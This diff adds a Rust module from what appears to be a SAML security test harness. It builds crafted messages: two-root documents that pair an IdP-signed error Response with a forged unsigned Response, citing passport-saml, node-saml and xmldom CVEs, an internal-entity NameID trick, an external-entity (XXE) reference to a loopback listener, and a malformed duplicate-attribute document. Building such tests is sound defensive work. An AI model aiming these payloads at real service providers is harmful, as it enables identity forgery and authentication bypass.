@@ -1,0 +1,94 @@
+//! Documents that parsers read differently (saml-attacks.md §1.5, §1.12): several
+//! document roots, entities from the message's own DTD, XML that is not well-formed.
+//! Each test is judged only on evidence of its class: a session for the forged identity,
+//! a fetch seen by the listener, an expansion seen in the identity.
+
+use super::{Crafted, Ctx};
+use crate::message::{self, Signing};
+use crate::splice;
+use crate::CraftError;
+use trust_framework::saml::constants::status;
+
+/// An error Response signed by the IdP, with no assertion (anyone can get one: ask the
+/// IdP for a login and cancel it), as the first root of node-saml's fixture
+/// `test/static/signatures/invalid/response.root-signed.multiple-root-elements.xml`.
+fn signed_error(c: &Ctx<'_>) -> Result<String, CraftError> {
+    let mut k = c.knobs();
+    k.status = (status::RESPONDER.to_owned(), None);
+    message::wrap(&k, Signing::Response, &c.spec(), "")
+}
+
+/// A Response for the forged identity, nothing signed.
+fn forged_unsigned(c: &Ctx<'_>) -> Result<String, CraftError> {
+    message::build(&c.golden.knobs(&c.forged), Signing::None, &c.spec())
+}
+
+/// Two roots: the IdP's signed error Response, then a forged unsigned Response
+/// (passport-saml CVE-2022-39299, node-saml CVE-2022-39300, xmldom CVE-2022-39353).
+pub fn roots_error_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = format!("{}{}", signed_error(c)?, forged_unsigned(c)?);
+    Ok(Crafted::of(xml).claiming(&c.forged))
+}
+
+/// Two roots the other way round: the forged Response, then the signed error Response.
+pub fn roots_forged_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = format!("{}{}", forged_unsigned(c)?, signed_error(c)?);
+    Ok(Crafted::of(xml).claiming(&c.forged))
+}
+
+/// Two roots: a valid signed Response (both signed), then a forged unsigned one.
+pub fn roots_valid_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let good = message::build(&c.knobs(), Signing::Both, &c.spec())?;
+    Ok(Crafted::of(format!("{good}{}", forged_unsigned(c)?)).claiming(&c.forged))
+}
+
+/// The signed Response with the text `identity` of its NameID replaced by a reference to
+/// an internal entity whose value is that text, declared in the message's DTD: the
+/// signature still verifies if, and only if, the SP expands the entity.
+pub fn internal_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = message::build(&c.knobs(), Signing::Both, &c.spec())?;
+    let with_ref = splice::set_name_id(&xml, "&n;")?;
+    let dtd = format!(
+        "<!DOCTYPE samlp:Response [<!ENTITY n \"{}\">]>",
+        trust_framework::saml::xml::escape(&c.identity)
+    );
+    Ok(Crafted::of(format!("{dtd}{with_ref}")))
+}
+
+/// The signed Response with an external entity (a loopback URL of the listener)
+/// declared and used in the NameID: an SP that resolves it fetches the URL while parsing,
+/// before any signature is checked.
+pub fn external_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = message::build(&c.knobs(), Signing::Both, &c.spec())?;
+    let with_ref = splice::set_name_id(&xml, "&x;")?;
+    let dtd = format!(
+        "<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"{}/oob/{}/entity\">]>",
+        c.listener, c.test_id
+    );
+    Ok(Crafted::of(format!("{dtd}{with_ref}")))
+}
+
+/// The signed Response with a duplicated attribute on its root: not well-formed XML
+/// (XML 1.0 §3.1, "Unique Att Spec"), which a strict parser refuses before anything else.
+pub fn duplicate_attribute(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let xml = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
+    let at = splice::after_start_tag(&xml, 0)? - 1;
+    Ok(Crafted::of(splice::insert(&xml, at, r#" Version="2.0""#)))
+}
+
+impl Crafted {
+    /// Marks the message as claiming `identity` (the SP must not believe it).
+    pub fn claiming(mut self, identity: &str) -> Self {
+        self.believed = Some(identity.to_owned());
+        self
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_duplicated_attribute_is_not_well_formed() {
+        let x = r#"<a Version="2.0" Version="2.0"/>"#;
+        assert!(roxmltree::Document::parse(x).is_err());
+    }
+}
